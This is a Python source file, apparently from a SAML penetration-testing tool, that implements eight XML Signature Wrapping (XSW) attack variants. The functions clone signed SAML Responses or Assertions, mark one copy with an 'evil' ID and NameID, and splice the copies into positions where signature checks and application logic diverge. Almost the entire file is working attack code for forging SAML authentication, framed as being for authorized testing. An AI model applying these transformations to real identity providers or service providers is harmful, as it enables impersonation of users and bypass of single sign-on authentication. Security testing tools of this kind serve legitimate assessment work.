"""XML Signature Wrapping (XSW) attacks against SAML messages.

Eight wrapping variants, following the classification from
"On Breaking SAML: Be Whoever You Want to Be":

- XSW1-2 wrap the Response itself.
- XSW3-8 wrap the Assertion.

Each variant clones the signed element, marks one copy as evil (new ID,
NameID prefixed with ``evil-``) and places the copies where signature
validators are known to check a different element than the one the
application consumes.

WARNING: These tools are intended for authorized security testing only.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from enum import IntEnum
from typing import Any

from samlraider.core.errors import (
    ElementNotFoundError,
    ErrorCode,
    InvalidVariantError,
    SAMLRaiderError,
)
from samlraider.core.saml.editor import (
    insert_before_close,
    mark_evil,
    set_id,
    splice,
    strip_signature,
)
from samlraider.core.saml.locator import (
    ElementKind,
    ElementSpan,
    find_last_closing_tag,
    locate,
)

EVIL_RESPONSE_ID = "_evil_response_ID"
EVIL_ASSERTION_ID = "_evil_assertion_ID"

# Prefixes assumed when the located element carries none
DEFAULT_SIGNATURE_PREFIX = "ds:"
DEFAULT_ASSERTION_PREFIX = "saml:"


class XSWVariant(IntEnum):
    """Supported XML Signature Wrapping variants."""

    XSW1 = 1
    XSW2 = 2
    XSW3 = 3
    XSW4 = 4
    XSW5 = 5
    XSW6 = 6
    XSW7 = 7
    XSW8 = 8


XSW_DESCRIPTIONS: dict[XSWVariant, str] = {
    XSWVariant.XSW1: "Evil Response; clean Response clone nested inside the Signature",
    XSWVariant.XSW2: "Evil Response; clean Response clone placed before the Signature (detached)",
    XSWVariant.XSW3: "Evil Assertion inserted before the original Assertion",
    XSWVariant.XSW4: "Evil Assertion wraps the original Assertion as its last child",
    XSWVariant.XSW5: "Original Assertion made evil; clean clone appended to the Response",
    XSWVariant.XSW6: "Original Assertion made evil; clean clone nested inside the Signature",
    XSWVariant.XSW7: "Evil Assertion wrapped in an Extensions element before the original",
    XSWVariant.XSW8: "Original Assertion made evil; clean clone in ds:Object inside the Signature",
}


@dataclass(frozen=True)
class AttackResult:
    """Outcome of an attack: either the new document or a failure reason."""

    success: bool
    xml: str | None = None
    error: str | None = None
    variant: int | None = None
    code: ErrorCode | None = None

    @classmethod
    def ok(cls, xml: str, variant: int | None = None) -> AttackResult:
        return cls(success=True, xml=xml, variant=variant)

    @classmethod
    def fail(
        cls,
        error: str,
        variant: int | None = None,
        code: ErrorCode = ErrorCode.UNKNOWN_ERROR,
    ) -> AttackResult:
        return cls(success=False, error=error, variant=variant, code=code)

    def to_dict(self) -> dict[str, Any]:
        """Convert to dictionary for serialization."""
        return {
            "success": self.success,
            "xml": self.xml,
            "error": self.error,
            "variant": self.variant,
            "code": str(self.code) if self.code else None,
        }


def get_variant_description(variant: int) -> str:
    """Get the human-readable description of an XSW variant."""
    try:
        return XSW_DESCRIPTIONS[XSWVariant(variant)]
    except ValueError:
        raise InvalidVariantError(variant) from None


def _require(kind: ElementKind, xml: str, context: str | None = None) -> ElementSpan:
    span = locate(kind, xml)
    if span is not None:
        return span
    if kind == ElementKind.RESPONSE:
        message = "No Response element found"
    elif kind == ElementKind.ASSERTION:
        message = "No SAML Assertion found in the XML"
    else:
        message = f"No Signature element found for {context}"
    raise ElementNotFoundError(kind.value, message, context)


def _evil_response(response: str) -> str:
    return set_id(mark_evil(response), EVIL_RESPONSE_ID)


def _evil_assertion(assertion: str) -> str:
    """Signature-free copy of an assertion with evil ID and NameID."""
    return mark_evil(set_id(strip_signature(assertion), EVIL_ASSERTION_ID))


def _evil_in_place(xml: str, assertion: ElementSpan) -> str:
    """Rewrite the located assertion's ID and mark every NameID in the document."""
    return mark_evil(splice(xml, assertion.start, assertion.end, set_id(assertion.raw, EVIL_ASSERTION_ID)))


def _nest_in_signature(xml: str, content: str, context: str) -> str:
    """Place content just before the closing tag of the first Signature."""
    signature = locate(ElementKind.SIGNATURE, xml)
    if signature is None:
        raise ElementNotFoundError(ElementKind.SIGNATURE.value, "Signature lost during modification", context)

    nested = insert_before_close(
        signature.raw,
        "Signature",
        signature.prefix or DEFAULT_SIGNATURE_PREFIX,
        content,
    )
    if nested is None:
        raise ElementNotFoundError(
            ElementKind.SIGNATURE.value,
            f"Signature closing tag not found for {context}",
            context,
        )
    return splice(xml, signature.start, signature.end, nested)


def apply_xsw1(xml: str) -> str:
    """XSW1: evil Response, clean clone nested inside its Signature.

    Raises:
        ElementNotFoundError: If the Response or Signature is missing.
    """
    response = _require(ElementKind.RESPONSE, xml)
    _require(ElementKind.SIGNATURE, xml, "XSW1")

    clone = strip_signature(response.raw)
    evil = _nest_in_signature(_evil_response(response.raw), clone, "XSW1")
    return splice(xml, response.start, response.end, evil)


def apply_xsw2(xml: str) -> str:
    """XSW2: evil Response, clean clone placed right before the Signature."""
    response = _require(ElementKind.RESPONSE, xml)
    _require(ElementKind.SIGNATURE, xml, "XSW2")

    clone = strip_signature(response.raw)
    evil = _evil_response(response.raw)

    signature = locate(ElementKind.SIGNATURE, evil)
    if signature is None:
        raise ElementNotFoundError(ElementKind.SIGNATURE.value, "Signature lost during modification", "XSW2")
    evil = splice(evil, signature.start, signature.start, clone)
    return splice(xml, response.start, response.end, evil)


def apply_xsw3(xml: str) -> str:
    """XSW3: evil Assertion inserted as a sibling before the original."""
    assertion = _require(ElementKind.ASSERTION, xml)
    return splice(xml, assertion.start, assertion.start, _evil_assertion(assertion.raw))


def apply_xsw4(xml: str) -> str:
    """XSW4: evil Assertion becomes the wrapper, the original its last child."""
    assertion = _require(ElementKind.ASSERTION, xml)
    evil = _evil_assertion(assertion.raw)

    wrapped = insert_before_close(
        evil,
        "Assertion",
        assertion.prefix or DEFAULT_ASSERTION_PREFIX,
        assertion.raw,
    )
    if wrapped is None:
        raise ElementNotFoundError(ElementKind.ASSERTION.value, "Assertion closing tag not found for XSW4", "XSW4")
    return splice(xml, assertion.start, assertion.end, wrapped)


def apply_xsw5(xml: str) -> str:
    """XSW5: original Assertion made evil, clean clone appended to the Response."""
    assertion = _require(ElementKind.ASSERTION, xml)
    clone = strip_signature(assertion.raw)
    result = _evil_in_place(xml, assertion)

    response_close = find_last_closing_tag("Response", result)
    if response_close is None:
        raise ElementNotFoundError(ElementKind.RESPONSE.value, "No Response closing tag found", "XSW5")
    return splice(result, response_close.start(), response_close.start(), clone)


def apply_xsw6(xml: str) -> str:
    """XSW6: original Assertion made evil, clean clone nested inside the Signature."""
    assertion = _require(ElementKind.ASSERTION, xml)
    _require(ElementKind.SIGNATURE, xml, "XSW6")

    clone = strip_signature(assertion.raw)
    result = _evil_in_place(xml, assertion)
    return _nest_in_signature(result, clone, "XSW6")


def apply_xsw7(xml: str) -> str:
    """XSW7: evil Assertion inside an Extensions element, before the original."""
    assertion = _require(ElementKind.ASSERTION, xml)
    extensions = f"<Extensions>{_evil_assertion(assertion.raw)}</Extensions>"
    return splice(xml, assertion.start, assertion.start, extensions)


def apply_xsw8(xml: str) -> str:
    """XSW8: original Assertion made evil, clean clone in ds:Object inside the Signature."""
    assertion = _require(ElementKind.ASSERTION, xml)
    _require(ElementKind.SIGNATURE, xml, "XSW8")

    clone = strip_signature(assertion.raw)
    result = _evil_in_place(xml, assertion)
    return _nest_in_signature(result, f"<ds:Object>{clone}</ds:Object>", "XSW8")


_VARIANTS: dict[XSWVariant, Callable[[str], str]] = {
    XSWVariant.XSW1: apply_xsw1,
    XSWVariant.XSW2: apply_xsw2,
    XSWVariant.XSW3: apply_xsw3,
    XSWVariant.XSW4: apply_xsw4,
    XSWVariant.XSW5: apply_xsw5,
    XSWVariant.XSW6: apply_xsw6,
    XSWVariant.XSW7: apply_xsw7,
    XSWVariant.XSW8: apply_xsw8,
}


def apply_xsw(xml: str, variant: int) -> AttackResult:
    """Apply an XSW attack variant to a SAML document.

    Never raises: missing elements, an unknown variant or any unexpected
    error are reported through the returned AttackResult.

    Args:
        xml: Decoded SAML XML.
        variant: Variant number, 1-8.

    Returns:
        AttackResult with the attacked document on success.
    """
    if isinstance(variant, bool) or not isinstance(variant, int) or variant not in _VARIANTS:
        error = InvalidVariantError(variant)
        return AttackResult.fail(str(error), code=error.code)

    try:
        xml_out = _VARIANTS[XSWVariant(variant)](xml)
    except SAMLRaiderError as e:
        return AttackResult.fail(str(e), variant=variant, code=e.code)
    except Exception as e:
        return AttackResult.fail(f"Error applying XSW attack: {e}", variant=variant)

    return AttackResult.ok(xml_out, variant=variant)
